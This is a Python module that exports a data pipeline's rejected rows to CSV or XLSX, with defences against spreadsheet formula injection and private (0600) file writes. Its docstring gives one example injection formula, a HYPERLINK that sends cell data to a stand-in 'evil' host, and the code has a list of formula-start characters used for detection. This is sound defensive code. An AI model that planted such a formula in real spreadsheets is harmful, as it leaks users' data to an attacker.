"""Exports for people who open them in a spreadsheet program: the rejected rows of a run.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, or their
full-width forms) is a formula to Excel and LibreOffice when the file is opened: a workbook
cell holding ``=HYPERLINK("http://evil/?"&A1, "click")`` would become a live link that sends
data away. Every exported text value that starts that way gets a leading apostrophe, so it
stays text. Real numbers (``-5``) are written as numbers.

The rejects file is an export of staged data (the values as they are in the workbook, PII
columns included: the budget staff need them to fix their file), so it is written 0600.
"""
from __future__ import annotations

import csv
import datetime as dt
import os
import tempfile
from decimal import Decimal
from pathlib import Path

from .stages import layout_of
from .errors import UsageError
from .rundir import RunDir, read_json, read_jsonl

FORMATS = ("csv", "xlsx")
#: What makes a spreadsheet program read text as a formula (or a DDE command).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PREFIX = "'"


def neutralise(value: object) -> object:
    """The value to export: numbers, booleans and dates as they are; text that a spreadsheet
    would run as a formula prefixed with an apostrophe; ``None`` as is."""
    if value is None or isinstance(value, (bool, int, float, Decimal, dt.date, dt.time)):
        return value
    text = str(value)
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return PREFIX + text
    return text


def is_neutral(value: object) -> bool:
    """Whether a value as exported is safe: a number, or text not starting like a formula."""
    return not (isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS))


def rejected_rows(run: RunDir) -> tuple[list[str], list[list]]:
    """The header and rows of a run's rejects: row number, finding codes, then the raw cells."""
    run.require("rejects", "validate")
    dataset = layout_of(run)  # the layout validate found: its columns and headers
    columns = [c for c in dataset.columns if not c.ignored]
    header = ["Row", "Findings"] + [c.header for c in columns]
    rows = []
    for record in read_jsonl(run.path / "validate" / "rejected.jsonl"):
        values = record.get("values") or {}
        rows.append([record["row"], ", ".join(record.get("codes", []))]
                    + [values.get(c.field) for c in columns])
    return header, rows


def export_rejects(run: RunDir, output: Path | str) -> dict:
    """Write the rejected rows of ``run`` to ``output`` (``.csv`` or ``.xlsx``), 0600, with
    formula-like text neutralised. Returns ``{"path", "format", "rows", "neutralised"}``."""
    output = Path(output)
    fmt = output.suffix.lower().lstrip(".")
    if fmt not in FORMATS:
        raise UsageError(f"--output must end in .csv or .xlsx, not {output.name!r}")
    header, rows = rejected_rows(run)
    safe_rows, changed = [], 0
    for row in rows:
        out = [neutralise(v) for v in row]
        changed += sum(1 for before, after in zip(row, out) if before is not after and before != after)
        safe_rows.append(out)
    _write_private(output, header, safe_rows, fmt)
    return {"path": str(output), "format": fmt, "rows": len(rows), "neutralised": changed}


def _write_private(output: Path, header: list[str], rows: list[list], fmt: str) -> None:
    """Write through a 0600 temporary file in the output's folder, renamed into place."""
    folder = output.parent if str(output.parent) else Path(".")
    if not folder.is_dir():
        raise UsageError(f"{folder} is not a folder")
    fd, tmp = tempfile.mkstemp(prefix=f".{output.name}.", suffix=".tmp", dir=folder)
    os.fchmod(fd, 0o600)
    try:
        with os.fdopen(fd, "wb") as handle:
            if fmt == "csv":
                _write_csv(handle, header, rows)
            else:
                _write_xlsx(handle, header, rows)
        os.replace(tmp, output)
        os.chmod(output, 0o600)
    except BaseException:
        try:
            os.unlink(tmp)
        except FileNotFoundError:
            pass
        raise


def _write_csv(handle, header, rows) -> None:
    import io

    text = io.TextIOWrapper(handle, encoding="utf-8-sig", newline="")
    writer = csv.writer(text)
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    text.flush()
    text.detach()


def _write_xlsx(handle, header, rows) -> None:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Rejected rows")
    sheet.append(header)
    for row in rows:
        # Control characters cannot be stored in the workbook's XML.
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("?", v) if isinstance(v, str) else v for v in row])
    book.save(handle)


def annotated_rejects(run: RunDir, output: Path | str) -> dict:
    """Write a copy of the run's submitted workbook to ``output`` (0600, atomically) with every
    finding's cell highlighted and commented, and a first sheet listing the findings with links
    to their cells (:mod:`ops_pipeline.writers.annotate`). Nothing else in the workbook changes.

    Returns ``{"path", "sheet", "findings", "highlighted", "commented", "comments_skipped"}``."""
    from .budget_export import private_output
    from .stages.fetch import source_file
    from .writers.annotate import annotate

    output = Path(output)
    run.require("rejects", "validate")
    source = source_file(run)
    if source.suffix.lower() not in (".xlsx", ".xlsm"):
        raise UsageError(f"{source.name}: only .xlsx and .xlsm workbooks can be annotated; "
                         "export the rejects as .csv or .xlsx instead")
    if output.suffix.lower() != source.suffix.lower():
        raise UsageError(f"--output must end in {source.suffix.lower()} like the submitted workbook, "
                         f"not {output.name!r}")
    summary = read_json(run.path / "validate" / "summary.json")
    findings = list(read_jsonl(run.path / "validate" / "findings.jsonl"))
    load_findings = run.path / "load" / "findings.jsonl"
    if run.status("load") == "succeeded" and load_findings.exists():
        findings += list(read_jsonl(load_findings))
    findings.sort(key=lambda f: (f.get("row") or 0, f.get("column") or "", f.get("code", "")))
    with private_output(output) as handle:
        result = annotate(source, handle, summary.get("sheet"), findings)
    return {"path": str(output), "run": run.run_id, "sheet": summary.get("sheet"), "findings": result["listed"],
            "highlighted": result["highlighted"], "commented": result["commented"],
            "comments_skipped": result["comments_skipped"]}
